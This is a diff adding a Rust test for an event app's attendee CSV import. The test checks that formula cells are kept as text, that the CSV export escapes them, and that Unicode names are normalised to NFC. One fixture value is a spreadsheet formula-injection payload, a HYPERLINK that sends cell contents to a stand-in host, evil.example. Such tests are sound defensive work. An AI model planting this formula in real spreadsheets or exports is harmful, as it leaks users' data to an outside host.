@@ -467,3 +467,79 @@ async fn organiser_registers_on_behalf_changes_consent_and_every_step_is_audited
     );
     server.stop();
 }
+
+#[tokio::test]
+async fn formula_cells_are_imported_as_text_and_written_escaped_and_names_are_nfc() {
+    // Issue 14, point 6: CSV formula injection and Unicode NFC. The importer keeps a
+    // value that starts like a formula as the text it is; the CSV copy escapes it; a
+    // name typed with combining marks is stored in NFC and found by the search.
+    let server = TestApp::start().await;
+    let (mut org, _kiosk, ev) = server.organiser_and_kiosk().await;
+    all_fields(&mut org, &ev, false).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Open\")";
+    let csv = format!(
+        "first_name,last_name,email,phone,organisation\n\
+         \"{}\",Ozola,dace@example.lv,+371 2000 0000,@Corp\n\
+         Ja\u{304}nis,C\u{30C}akste,janis@example.lv,,-Corp\n",
+        evil.replace('"', "\"\"")
+    );
+    let (status, body) = import(&mut org, &ev, &csv).await;
+    assert_eq!(status, 200, "{body}");
+
+    // Stored as text, exactly; names in NFC ("Č" and "ā" one character each).
+    let db = server.db();
+    let row = |email: &str| -> (i64, String, String) {
+        db.query_row(
+            "SELECT id, first_name, last_name FROM attendees WHERE email = ?1",
+            [email],
+            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
+        )
+        .unwrap()
+    };
+    let (dace, first, _) = row("dace@example.lv");
+    assert_eq!(first, evil);
+    let (_, first, last) = row("janis@example.lv");
+    assert_eq!(
+        (first.as_str(), last.as_str()),
+        ("J\u{101}nis", "\u{10C}akste")
+    );
+    drop(db);
+
+    // The search finds the name typed either way.
+    for q in ["Čakste", "C\u{30C}akste", "jānis čak"] {
+        let found = org.attendees(&ev, serde_json::json!({ "q": q })).await;
+        assert_eq!(found.total, 1, "{q}");
+    }
+
+    // The organiser's CSV copy of the attendee: the formula is text.
+    let r = org
+        .post_json(
+            "/api/attendees/export",
+            &serde_json::json!({ "event_id": ev, "attendee_id": dace }).to_string(),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    let export: app::types::DataExport = serde_json::from_str(&r.body).unwrap();
+    let lines: Vec<&str> = export.csv.split("\r\n").collect();
+    assert!(
+        lines.contains(
+            &"fields,,first_name,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Open\"\")\""
+        ),
+        "{}",
+        export.csv
+    );
+    assert!(lines.contains(&"fields,,phone,'+371 2000 0000"));
+    assert!(lines.contains(&"fields,,organisation,'@Corp"));
+    for line in &lines[1..] {
+        let value = line.splitn(4, ',').nth(3).unwrap_or("");
+        let value = value.trim_start_matches('"');
+        assert!(
+            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{line}"
+        );
+    }
+    // The JSON copy keeps the value as it is.
+    let json: serde_json::Value = serde_json::from_str(&export.json).unwrap();
+    assert_eq!(json["fields"]["first_name"], evil);
+    server.stop();
+}
